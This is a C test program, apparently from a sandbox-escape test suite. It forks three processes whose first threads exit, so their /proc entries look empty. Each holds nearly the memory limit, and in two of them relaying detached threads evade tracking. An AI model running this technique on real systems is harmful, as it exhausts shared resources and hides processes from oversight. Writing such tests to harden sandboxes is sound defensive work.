/* A little less than the limit in each of three processes whose first thread has left: their own /proc/PID shows nothing.
 * In two of them each further thread lives only until it has started the next one. */
#include "attack.h"

static size_t size;
static int relays;

static void *go_on(void *steps)
{
    pthread_t next;
    pthread_attr_t detached;
    if (!steps) {
        char *p = malloc(size);
        memset(p, 1, size);
        __asm__ volatile("" :: "r"(p) : "memory");
    }
    if (!relays)
        sleep(8);
    pthread_attr_init(&detached);
    pthread_attr_setdetachstate(&detached, PTHREAD_CREATE_DETACHED);
    while (pthread_create(&next, &detached, go_on, (char *)steps + 1))
        ;
    return 0;
}

int main(void)
{
    size = (size_t)number("memory_mib") * 9 / 10 << 20;
    for (int i = 0; i < 3; i++)
        if (fork() == 0) {
            pthread_t thread;
            relays = i;
            pthread_create(&thread, 0, go_on, 0);
            syscall(SYS_exit, 0);
        }
    usleep(700000);
    int alive = 0;
    while (waitpid(-1, 0, WNOHANG) == 0 && alive++ < 10)
        usleep(10000);
    if (number("may_fork"))
        escaped("three processes without a first thread, each with nearly the limit");
    return 0;
}
